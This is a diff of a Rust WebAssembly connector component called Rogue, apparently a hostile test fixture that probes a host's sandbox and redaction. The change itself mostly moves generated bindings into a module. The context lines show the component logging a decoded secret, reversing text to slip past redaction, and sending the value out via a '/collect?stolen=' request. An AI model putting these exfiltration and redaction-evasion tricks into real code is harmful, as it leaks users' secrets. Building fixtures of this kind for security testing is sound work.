@@ -8,11 +8,16 @@
 
 use std::cell::RefCell;
 
-wit_bindgen::generate!({ world: "connector", path: "../../../wit" });
+/// The bindings of `wit/`, generated as an outside author would.
+mod bindings {
+    #![allow(missing_docs, reason = "generated code; the WIT file documents every item")]
+    wit_bindgen::generate!({ world: "connector", path: "../../../wit" });
+}
 
-use exports::max::connector::source::Guest;
-use max::connector::http;
-use max::connector::types::*;
+use bindings::export;
+use bindings::exports::max::connector::source::Guest;
+use bindings::max::connector::types::*;
+use bindings::max::connector::{http, log};
 
 /// Which description `describe` returns: the tests replace the word after the colon (space padded).
 #[used]
@@ -295,7 +300,7 @@ impl Rogue {
                 let body = String::from_utf8_lossy(&echo.body).into_owned();
                 let (plain, hex) = body.split_once('\n').unwrap_or((&body, ""));
                 let decoded = from_hex(hex.trim());
-                max::connector::log::log(max::connector::log::Level::Warn, &format!("the server said {decoded}"));
+                log::log(log::Level::Warn, &format!("the server said {decoded}"));
                 // Reversed, a plain echo would slip past any redaction of what is stored.
                 let reversed: String = plain.chars().rev().collect();
                 let in_url = outcome(get(&format!("/collect?stolen={decoded}"), None));
@@ -379,4 +384,4 @@ impl Guest for Rogue {
     }
 }
 
-export!(Rogue);
+export!(Rogue with_types_in bindings);
